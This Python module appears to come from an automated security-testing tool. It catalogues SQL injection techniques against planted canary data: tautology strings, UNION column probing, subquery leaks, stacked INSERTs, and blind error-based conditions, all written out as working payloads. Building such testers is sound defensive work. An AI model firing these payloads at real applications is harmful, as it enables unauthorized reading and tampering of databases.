"""SQL (CWE-89): reading rows that a query would not give, reading another table, changing one.

Positions: a quoted string, a number or name, both in parentheses. `blind` techniques read single
bits off two answers that differ: `{condition}` is a question about the canary, `{example}` the
slot's honest value.
"""

from __future__ import annotations

from stockade.tools.attack.model import Evidence, Payload, Technique
from stockade.tools.attack.payloads import Aim

__all__ = ["TECHNIQUES"]

_MOST_COLUMNS = 6
_ERROR_UNLESS = "(SELECT CASE WHEN {condition} THEN 1 ELSE abs(-9223372036854775808) END)"


def _breaks(text: str) -> str:
    return "'" if "'" in text else ""


def _rows(id: str, text: str, *, representative: bool = False) -> Technique:
    """It shows rows that were planted, or changes them."""
    return Technique(
        id, lambda aim: (Payload(text, Evidence(aim.rows)),), representative, _breaks(text)
    )


def _leak(id: str, template: str, *, representative: bool = False) -> Technique:
    """It shows, or stores, what stands in the canary's table."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(template.format(leak=aim.leak), Evidence((aim.leaked,))),)

    return Technique(id, make, representative, _breaks(template))


def _union(id: str, before: str, after: str, *, representative: bool = False) -> Technique:
    """It appends a row; how many columns that needs is found by trying."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return tuple(
            Payload(
                f"{before} UNION SELECT {','.join([aim.leak] * columns)}{after}",
                Evidence((aim.leaked,)),
            )
            for columns in range(1, _MOST_COLUMNS + 1)
        )

    return Technique(id, make, representative, _breaks(before))


def _blind(id: str, template: str) -> Technique:
    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(template.replace("{example}", aim.example)),)

    return Technique(id, make, breaks_out_with=_breaks(template))


def _columns(aim: Aim) -> tuple[Payload, ...]:
    return tuple(Payload(column, Evidence(aim.rows)) for column in aim.columns)


TECHNIQUES = (
    _rows("sql.tautology.string", "x' OR '1'='1", representative=True),
    _rows("sql.tautology.comment", "x' OR 1=1 -- "),
    _rows("sql.tautology.open-comment", "x' OR '1'='1'/*"),
    _rows("sql.tautology.no-space", "x'/**/OR/**/1=1/**/OR'x'='"),
    _rows("sql.tautology.padded", "  x' OR 'a'='a  "),
    _rows("sql.tautology.case", "x' oR 2>1 Or 'x'='"),
    _rows("sql.tautology.string-group", "x') OR ('1'='1"),
    _rows("sql.tautology.string-groups", "x')) OR (('1'='1"),
    _rows("sql.tautology.number", "0 OR 1=1", representative=True),
    _rows("sql.tautology.number-group", "0) OR (1=1"),
    _rows("sql.tautology.name", "1=1 OR 1"),
    _union("sql.union.string", "x'", " -- ", representative=True),
    _union("sql.union.string-group", "x')", " -- "),
    _union("sql.union.number", "0", ""),
    _leak("sql.subquery.string", "x'||{leak}||'"),
    _leak("sql.subquery.number", "{leak}"),
    _leak("sql.stacked.string", "x'; INSERT INTO stockade_canary VALUES ({leak}); -- "),
    _leak("sql.stacked.number", "0; INSERT INTO stockade_canary VALUES ({leak})"),
    _blind("sql.blind.string", "x' OR {condition} OR 'x'='"),
    _blind("sql.blind.error-string", f"x'||{_ERROR_UNLESS}||'"),
    _blind("sql.blind.error-number", _ERROR_UNLESS),
    _blind("sql.blind.error-assignment", f"rowid = rowid + 0 * {_ERROR_UNLESS}, {{example}}"),
    Technique("sql.column.sensitive", _columns),
)
